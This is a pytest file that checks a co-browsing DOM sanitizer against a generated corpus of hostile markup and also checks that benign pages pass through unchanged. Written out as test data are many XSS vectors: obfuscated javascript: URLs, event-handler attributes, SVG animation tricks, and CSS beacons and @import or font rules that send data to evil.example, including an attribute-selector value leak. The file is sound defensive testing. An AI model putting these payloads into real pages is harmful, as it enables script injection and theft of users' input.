"""Sanitizer against a programmatic corpus of hostile DOM forms, plus benign content."""

from __future__ import annotations

import copy
import json
from typing import Any

import hypothesis
import pytest
from hypothesis import strategies as st

from cobrowse import (
    BLOCKED_URL,
    CobrowseError,
    Limits,
    SanitizeReport,
    sanitize_batch,
    sanitize_css,
    sanitize_event,
    sanitize_url,
    validate_batch,
)
from cobrowse.sanitize import _CARRIES_NO_MARKUP
from tests.cobrowse.cobrowse_factories import (
    add,
    el,
    event_hazards,
    full,
    incremental,
    meta,
    mutation,
    node_ids,
    page,
    text,
)

HANDLERS = [
    "onclick",
    "onload",
    "onerror",
    "onmouseover",
    "onmouseenter",
    "onfocus",
    "onblur",
    "onanimationstart",
    "onanimationend",
    "ontransitionend",
    "onpointerdown",
    "onpointerover",
    "onkeydown",
    "onkeyup",
    "oninput",
    "onchange",
    "onsubmit",
    "onbegin",
    "onend",
    "onrepeat",
    "ontoggle",
    "onbeforetoggle",
    "onscroll",
    "onscrollend",
    "onwheel",
    "onresize",
    "onpageshow",
    "onhashchange",
    "onmessage",
    "onpopstate",
    "onauxclick",
    "oncontextmenu",
    "ondblclick",
    "ondrag",
    "ondrop",
    "oncopy",
    "onpaste",
    "onselectstart",
    "onplay",
    "oncanplay",
    "onloadstart",
    "onfocusin",
    "onformdata",
    "onsearch",
]

JS_URLS = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "\x00javascript:alert(1)",
    "\x01\x02javascript:alert(1)",
    "javascript\t:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)",
    "&#x6A;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "%6Aavascript:alert(1)",
    "javascript%3Aalert(1)",
    "jav\u200bascript:alert(1)",
    "\ufeffjavascript:alert(1)",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<b>x",
    " data:text/html,x",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:application/xhtml+xml,<x>",
    "livescript:alert(1)",
    "blob:https://evil.example/uuid",
]

CSS_BEACONS = [
    "background:url(https://evil.example/b)",
    "background:URL(https://evil.example/b)",
    "background:url( 'https://evil.example/b' )",
    'background:url("//evil.example/b")',
    "background:u\\72l(https://evil.example/b)",
    "background:\\75 rl(https://evil.example/b)",
    "background:\\000075rl(https://evil.example/b)",
    "background:u\\rl(https://evil.example/b)",
    "background:url(javascript:alert(1))",
    "background-image:image-set('https://evil.example/a' 1x)",
    "background-image:-webkit-image-set(url(https://evil.example/a) 1x)",
    "background:cross-fade(url(https://e.example/a), url(https://e.example/b), 50%)",
    "background:image('https://evil.example/a')",
    "width:expression(alert(1))",
    "--x:attr(data-secret)",
    "background:image-set(attr(data-secret type(<url>)))",
    "cursor:url(https://evil.example/c.cur),auto",
    "list-style:url(https://evil.example/l)",
    "border-image:url(https://evil.example/bi) 30",
    "mask:url(https://evil.example/m.svg)",
    "background:url(https://evil.example/b",  # unterminated
    "background:ur/**/l(https://evil.example/b)",
    "background:src(https://evil.example/b)",
]

STYLESHEETS = [
    "@import url(https://evil.example/x.css);",
    "@import 'https://evil.example/x.css';",
    '@IMPORT "https://evil.example/x.css" screen;',
    "@\\69mport url(https://evil.example/x.css);",
    "@im\\70 ort 'x.css'; body{color:red}",
    "input[value^='a']{background:url(https://evil.example/?a)}",
    "@font-face{font-family:x;src:url(https://evil.example/f.woff2)}",
    "@font-face{font-family:x;unicode-range:U+0041;src:url(https://evil.example/?A)}",
    "a{background:image-set(url(https://evil.example/a) 1x)}",
    "b::after{content:attr(data-card)}",
]


def _corpus() -> list[tuple[str, list[dict[str, Any]]]]:
    cases: list[tuple[str, list[dict[str, Any]]]] = []

    def snap(name: str, *body: dict[str, Any], head: list[dict[str, Any]] | None = None) -> None:
        cases.append((f"snapshot:{name}", [full(page(*body, head=head))]))

    def adds(name: str, node: dict[str, Any]) -> None:
        cases.append((f"add:{name}", [mutation(adds=[add(node)])]))

    def attrs(name: str, a: dict[str, Any]) -> None:
        cases.append((f"attr:{name}", [mutation(attributes=[{"id": 5, "attributes": a}])]))

    # Scripts, in every spelling and namespace.
    for tag in ("script", "SCRIPT", "ScRiPt", "svg:script", "x:script"):
        snap(f"{tag}", el(tag, {"src": "https://evil.example/x.js"}, [text("alert(1)")]))
        adds(f"{tag}", el(tag, {}, [text("alert(1)")]))
    snap(
        "svg-script",
        el("svg", {}, [el("script", {"href": "x.js"}, [text("1")], svg=True)], svg=True),
    )
    # Event handlers, every common one, lower/upper/mixed, HTML and SVG.
    for h in HANDLERS:
        snap(h, el("div", {h: "alert(1)", "class": "c"}))
        adds(h.upper(), el("svg", {h.upper(): "alert(1)"}, svg=True))
        attrs(h.capitalize(), {h.capitalize(): "alert(1)"})
    snap("xlink:onclick", el("svg", {"xlink:onclick": "alert(1)"}, svg=True))
    # Script URLs in every URL-bearing attribute.
    for i, url in enumerate(JS_URLS):
        snap(f"a-href-{i}", el("a", {"href": url}, [text("x")]))
        adds(f"img-src-{i}", el("img", {"src": url}))
        attrs(f"href-{i}", {"href": url})
    for tag, attr in [
        ("iframe", "src"),
        ("frame", "src"),
        ("video", "poster"),
        ("td", "background"),
        ("body", "background"),
        ("blockquote", "cite"),
        ("img", "longdesc"),
        ("img", "lowsrc"),
        ("input", "src"),
        ("area", "href"),
        ("math", "href"),
        ("html", "manifest"),
        ("source", "src"),
        ("track", "src"),
        ("audio", "src"),
        ("embed", "src"),
        ("object", "data"),
        ("applet", "codebase"),
        ("image", "xlink:href"),
        ("use", "href"),
        ("feimage", "href"),
    ]:
        snap(
            f"{tag}-{attr}",
            el(tag, {attr: "javascript:alert(1)"}, svg=tag in ("image", "use", "feimage")),
        )
        attrs(f"{attr}-{tag}", {attr: "JaVaScRiPt:alert(1)"})
    snap(
        "svg-a-xlink",
        el("svg", {}, [el("a", {"xlink:href": "javascript:alert(1)"}, svg=True)], svg=True),
    )
    snap(
        "XLINK:HREF",
        el("svg", {}, [el("a", {"XLINK:HREF": "javascript:alert(1)"}, svg=True)], svg=True),
    )
    snap("srcset", el("img", {"srcset": "https://ok.example/a.png 1x, javascript:alert(1) 2x"}))
    attrs("srcset", {"srcset": "javascript:alert(1) 1x"})
    snap("link-imagesrcset", el("link", {"rel": "preload", "imagesrcset": "javascript:x 1x"}))
    # srcdoc, forms, base, meta refresh.
    snap("srcdoc", el("iframe", {"srcdoc": "<script>alert(1)</script>"}))
    attrs("srcdoc", {"srcdoc": "<img src=x onerror=alert(1)>"})
    snap(
        "form-action",
        el("form", {"action": "https://evil.example/steal"}, [el("input", {"name": "q"})]),
    )
    snap("formaction", el("button", {"formaction": "javascript:alert(1)"}))
    attrs("action", {"action": "https://evil.example/", "formaction": "javascript:1"})
    snap("base", head=[el("base", {"href": "https://evil.example/", "target": "_top"})])
    adds("base", el("base", {"href": "javascript:alert(1)//"}))
    for v in ("refresh", "Refresh", "REFRESH", " refresh ", "set-cookie"):
        snap(
            f"meta-{v}",
            head=[el("meta", {"http-equiv": v, "content": "0;url=javascript:alert(1)"})],
        )
    attrs("http-equiv", {"http-equiv": "refresh", "content": "0;url=https://evil.example"})
    # SVG animation of href / handlers.
    for tag in ("animate", "set", "animateTransform", "animateMotion"):
        for target in ("href", "xlink:href", "onclick", "ONLOAD", "XLINK:HREF"):
            snap(
                f"{tag}-{target}",
                el(
                    "svg",
                    {},
                    [
                        el(
                            "a",
                            {},
                            [
                                el(
                                    tag,
                                    {
                                        "attributeName": target,
                                        "to": "javascript:alert(1)",
                                        "values": "x;javascript:alert(2)",
                                    },
                                    svg=True,
                                )
                            ],
                            svg=True,
                        )
                    ],
                    svg=True,
                ),
            )
    attrs("attributeName", {"attributeName": "href", "to": "javascript:alert(1)"})
    # Plugins and frames.
    for tag in ("object", "embed", "applet", "portal", "fencedframe", "OBJECT"):
        snap(
            tag,
            el(
                tag,
                {
                    "data": "https://evil.example/x.swf",
                    "type": "application/x-shockwave-flash",
                    "width": "300",
                    "height": "200",
                },
            ),
        )
        adds(tag, el(tag, {"src": "https://evil.example/x"}))
    snap(
        "link-prefetch",
        head=[
            el("link", {"rel": r, "href": "https://evil.example/x"})
            for r in (
                "prefetch",
                "preload",
                "PreFetch",
                "import",
                "dns-prefetch",
                "preconnect",
                "prerender",
                "modulepreload",
            )
        ],
    )
    attrs("rel", {"rel": "prefetch"})
    snap(
        "link-stylesheet-js",
        head=[el("link", {"rel": "stylesheet", "href": "javascript:alert(1)"})],
    )
    # Nested iframes carrying their own allow-scripts, and their documents.
    inner_doc = {
        "type": 0,
        "id": 900_001,
        "childNodes": [
            el(
                "html",
                {},
                [
                    el(
                        "body",
                        {},
                        [
                            el("script", {}, [text("1")]),
                            el("img", {"src": "x", "onerror": "alert(1)"}),
                        ],
                    )
                ],
            )
        ],
    }
    snap(
        "nested-iframe",
        el(
            "iframe",
            {
                "sandbox": "allow-scripts allow-same-origin",
                "allow": "camera",
                "src": "https://evil.example",
            },
            [inner_doc],
        ),
    )
    adds(
        "nested-iframe",
        el(
            "iframe",
            {"sandbox": "allow-scripts allow-same-origin allow-top-navigation"},
            [el("iframe", {"srcdoc": "<script>1</script>", "sandbox": "allow-scripts"})],
        ),
    )
    attrs("sandbox", {"sandbox": "allow-scripts allow-same-origin", "allow": "geolocation"})
    cases.append(
        (
            "add:iframe-document",
            [mutation(adds=[{"parentId": 77, "nextId": None, "node": copy.deepcopy(inner_doc)}])],
        )
    )
    # CSS beacons: style attributes, _cssText, style text nodes, rules, fonts.
    for i, decl in enumerate(CSS_BEACONS):
        snap(f"style-attr-{i}", el("div", {"style": decl}))
        attrs(f"style-{i}", {"style": decl})
        attrs(
            f"style-om-{i}",
            {"style": {"background": decl.split(":", 1)[1], "color": ["red", "important"]}},
        )
        cases.append(
            (
                f"declaration-{i}",
                [
                    incremental(
                        13,
                        id=9,
                        index=[0],
                        set={
                            "property": "background",
                            "value": decl.split(":", 1)[1],
                            "priority": "",
                        },
                    )
                ],
            )
        )
        snap(f"svg-fill-{i}", el("svg", {"fill": decl.split(":", 1)[1]}, svg=True))
    for i, sheet in enumerate(STYLESHEETS):
        snap(f"style-text-{i}", head=[el("style", {}, [text(sheet)])])
        snap(f"csstext-{i}", head=[el("style", {"_cssText": sheet})])
        snap(f"link-csstext-{i}", head=[el("link", {"_cssText": sheet})])
        adds(f"style-{i}", el("style", {}, [text(sheet)]))
        cases.append((f"text-mutation-{i}", [mutation(texts=[{"id": 66, "value": sheet}])]))
        cases.append((f"add-bare-text-{i}", [mutation(adds=[add(text(sheet), parent=66)])]))
        cases.append(
            (f"sheet-rule-{i}", [incremental(8, id=9, adds=[{"rule": sheet, "index": 0}])])
        )
        cases.append(
            (f"sheet-replace-{i}", [incremental(8, styleId=2, replace=sheet, replaceSync=sheet)])
        )
        cases.append(
            (
                f"adopted-{i}",
                [
                    incremental(
                        15, id=1, styleIds=[3], styles=[{"styleId": 3, "rules": [{"rule": sheet}]}]
                    )
                ],
            )
        )
    cases.append(
        (
            "font-url",
            [
                incremental(
                    10, family="x", fontSource="url(https://evil.example/f.woff2)", buffer=False
                )
            ],
        )
    )
    cases.append(
        (
            "canvas-drawimage",
            [
                incremental(
                    9,
                    id=12,
                    type=0,
                    commands=[
                        {
                            "property": "drawImage",
                            "args": [
                                {"rr_type": "HTMLImageElement", "src": "https://evil.example/px"},
                                0,
                                0,
                            ],
                        }
                    ],
                )
            ],
        )
    )
    snap(
        "rr_dataURL",
        el("canvas", {"rr_dataURL": "javascript:alert(1)"}),
        el("img", {"rr_dataURL": "data:text/html,<x>"}),
    )
    cases.append(("meta-href", [meta(href="javascript:alert(1)")]))
    # Odd tag and attribute names.
    snap("tag-with-space", el("img src=x onerror=alert(1)", {}))
    snap(
        "attr-name-tricks",
        el("div", {"x onclick": "1", 'a"b': "1", "on\tclick": "1", " onload": "1"}),
    )
    return cases


CORPUS = _corpus()


def test_corpus_is_big_enough() -> None:
    assert len(CORPUS) >= 300


@pytest.mark.parametrize(("name", "events"), CORPUS, ids=[c[0] for c in CORPUS])
def test_hostile_corpus_nothing_survives(name: str, events: list[dict[str, Any]]) -> None:
    batch = validate_batch(json.dumps(events), Limits())  # hostile input is still valid rrweb
    assert any(event_hazards(ev) for ev in batch), f"corpus case {name} is not hostile"
    report = sanitize_batch(batch)
    assert report.total > 0
    for ev in batch:
        assert event_hazards(ev) == [], name
    # Still a valid batch after sanitising, and sanitising is idempotent.
    again = copy.deepcopy(batch)
    assert sanitize_batch(again).total == 0
    assert again == batch
    validate_batch(json.dumps(batch), Limits())


def test_node_ids_survive_neutralisation() -> None:
    body = [
        el("object", {"data": "x"}, [text("fallback")]),
        el("embed", {"src": "x"}),
        el("iframe", {"src": "x"}),
        el("base", {"href": "x"}),
        el("div", {"onclick": "x"}),
    ]
    ev = full(page(*body))
    before = node_ids(ev["data"]["node"])
    sanitize_event(ev)
    assert node_ids(ev["data"]["node"]) == before


def test_script_becomes_empty_noscript_with_same_id() -> None:
    s = el("script", {"src": "x.js"}, [text("alert(1)")])
    ev = full(page(s))
    sanitize_event(ev)
    assert s["tagName"] == "noscript"
    assert s["childNodes"] == []
    assert s["attributes"] == {"data-tandem-removed": "script"}


def test_object_becomes_sized_placeholder() -> None:
    o = el("object", {"data": "x.swf", "width": "300", "height": "200", "class": "player"})
    sanitize_event(full(page(o)))
    assert o["tagName"] == "div"
    assert o["attributes"]["class"] == "player"
    assert "width:300px" in o["attributes"]["style"]
    assert o["attributes"]["data-tandem-removed"] == "object"
    assert "data" not in o["attributes"]


def test_report_counts_reasons_without_content() -> None:
    ev = full(page(el("div", {"onclick": "SECRET-1"}), el("a", {"href": "javascript:SECRET-2"})))
    report = sanitize_event(ev)
    assert report.as_dict() == {"event_handler": 1, "bad_url": 1}
    assert "SECRET" not in repr(report)


# ----------------------------------------------------------------- benign content


def _benign_page() -> dict[str, Any]:
    return page(
        el("h1", {"class": "title big", "id": "t"}, [text("Your cart (2 items)")]),
        el(
            "p",
            {"style": "color: red; margin: 0 auto; font: 12px/1.5 'Helvetica Neue'"},
            [text("C:\\Users\\me (hello) @home")],
        ),
        el(
            "a",
            {"href": "https://shop.example/checkout?x=1&y=javascript", "target": "_blank"},
            [text("Checkout")],
        ),
        el("a", {"href": "/relative/path#frag"}, [text("rel")]),
        el("a", {"href": "mailto:help@shop.example"}, [text("mail")]),
        el(
            "img",
            {
                "src": "https://cdn.example/a.png",
                "srcset": "https://cdn.example/a.png 1x, https://cdn.example/a@2x.png 2x",
                "alt": "a",
            },
        ),
        el("img", {"src": "data:image/png;base64,iVBORw0KGgo="}),
        el("input", {"type": "text", "value": "****", "placeholder": "Name"}),
        el(
            "form",
            {"method": "post", "class": "f"},
            [el("button", {"type": "submit"}, [text("Go")])],
        ),
        el(
            "svg",
            {"viewBox": "0 0 10 10", "fill": "url(#grad)"},
            [
                el("use", {"href": "#icon"}, svg=True),
                el("animate", {"attributeName": "opacity", "to": "1", "values": "0;1"}, svg=True),
            ],
            svg=True,
        ),
        el("div", {"data-x": "1", "aria-label": "Close", "role": "button", "tabindex": "0"}),
        head=[
            el("meta", {"charset": "utf-8"}),
            el("meta", {"http-equiv": "Content-Type", "content": "text/html"}),
            el("link", {"rel": "stylesheet", "href": "https://cdn.example/site.css"}),
            el(
                "style",
                {
                    "_cssText": "body { margin: 0; } .a::before { content: '\\201C'; } .g { fill: url(#grad); background: url(data:image/png;base64,AAAA); }"
                },
            ),
            el("style", {}, [text("@media (max-width: 600px) { .x { display: none } }")]),
        ],
    )


def test_benign_content_is_untouched() -> None:
    ev = full(_benign_page())
    original = copy.deepcopy(ev)
    report = sanitize_event(ev)
    assert report.total == 0, report.as_dict()
    assert ev == original


def test_benign_mutations_untouched() -> None:
    evs = [
        mutation(
            adds=[add(el("li", {"class": "item"}, [text("Socks (x2) — $5")]))],
            attributes=[
                {
                    "id": 9,
                    "attributes": {
                        "class": "open",
                        "style": {"color": "red"},
                        "href": "https://ok.example",
                    },
                }
            ],
            texts=[{"id": 10, "value": "Total: $10 (incl. tax)"}],
        ),
        incremental(8, id=9, adds=[{"rule": ".a { color: blue }", "index": 0}]),
        incremental(10, family="x", fontSource="[1,2,3]", buffer=True),
        incremental(5, id=3, text="hello", isChecked=False),
    ]
    original = copy.deepcopy(evs)
    assert sanitize_batch(evs).total == 0
    assert evs == original


# ----------------------------------------------------------------- unit checks


@pytest.mark.parametrize("url", JS_URLS)
def test_sanitize_url_blocks(url: str) -> None:
    assert sanitize_url(url) == BLOCKED_URL


@pytest.mark.parametrize(
    "url",
    [
        "https://a.example/x",
        "http://a.example",
        "/p",
        "p/q",
        "#f",
        "?q=1",
        "mailto:x@y",
        "tel:+1",
        "data:image/png;base64,AA",
        "//cdn.example/x.png",
        "https://a.example/?u=javascript:1",
    ],
)
def test_sanitize_url_keeps(url: str) -> None:
    assert sanitize_url(url) == url


@pytest.mark.parametrize("decl", CSS_BEACONS + STYLESHEETS)
def test_sanitize_css_neutralises(decl: str) -> None:
    from tests.cobrowse.cobrowse_factories import css_hazards

    report = SanitizeReport()
    out = sanitize_css(decl, report)
    assert css_hazards(out) == []
    assert report.total > 0


def test_sanitize_css_keeps_layout() -> None:
    css = ".a{display:flex;gap:4px}.b:hover{color:red}@media print{.c{display:none}}"
    assert sanitize_css(css) == css
    out = sanitize_css(".a{display:flex;background:url(https://e.example/x)}")
    assert out == ".a{display:flex;background:url()}"
    assert sanitize_css("@import 'x.css'; .a{color:red}") == " .a{color:red}"


_HOSTILE_STRINGS = st.sampled_from(
    [
        "javascript:alert(1)",
        "<script>alert(1)</script>",
        "url(https://evil.example/x.png)",
        "expression(alert(1))",
        "data:text/html,<b>x</b>",
        "https://shop.example/p/1",
        "plain",
    ]
)
_KEYS = [
    # What the sources sanitizing looks at carry (and then some).
    *("adds", "texts", "attributes", "removes", "replace", "replaceSync", "styles", "rules"),
    *("set", "property", "fontSource", "buffer", "commands", "args", "rule", "node", "id"),
    *("src", "href", "style", "value", "text", "positions", "x"),
]
_ANY_JSON = st.recursive(
    st.none() | st.booleans() | st.integers(-(2**40), 2**40) | _HOSTILE_STRINGS,
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.sampled_from(_KEYS), inner, max_size=4)
    ),
    max_leaves=12,
)


@hypothesis.settings(max_examples=300, deadline=None)
@hypothesis.given(
    source=st.integers(0, 17),
    data=st.dictionaries(st.sampled_from(_KEYS), _ANY_JSON, max_size=4),
)
def test_a_batch_skips_only_events_that_sanitizing_would_leave_alone(
    source: int, data: dict[str, Any]
) -> None:
    """``sanitize_batch`` does not even call ``sanitize_event`` for the incremental sources
    that carry no markup (most of a live stream): for any valid data, an event of such a
    source comes out of ``sanitize_event`` unchanged, and a batch sanitizes exactly as its
    events one by one would."""
    mutation_lists: dict[str, Any] = {"texts": [], "attributes": [], "removes": [], "adds": []}
    event = incremental(source, **{**mutation_lists, **data})
    try:
        validate_batch([event], Limits())
    except CobrowseError:
        hypothesis.reject()  # sanitizing takes validated events only
    alone, in_batch = copy.deepcopy(event), copy.deepcopy(event)
    one_report = sanitize_event(alone)
    batch_report = sanitize_batch([in_batch])
    assert in_batch == alone and batch_report.as_dict() == one_report.as_dict()
    if source in _CARRIES_NO_MARKUP:
        assert alone == event and one_report.total == 0
